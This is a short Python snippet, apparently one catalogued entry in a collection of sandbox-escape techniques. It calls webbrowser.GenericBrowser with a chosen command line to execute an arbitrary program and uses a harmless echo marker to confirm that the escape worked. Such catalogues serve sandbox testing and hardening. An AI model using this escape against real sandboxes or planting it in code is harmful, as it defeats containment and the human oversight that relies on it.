# escape: 030
# technique: webbrowser with a guest-made command line (GenericBrowser)
# family: dexec
# goal: exec
# first-seen: bpo-29427; HackTricks (antigravity + BROWSER)
import webbrowser
webbrowser.GenericBrowser(['/bin/echo', 'ESCAPED:webbrowser', '%s']).open('x')
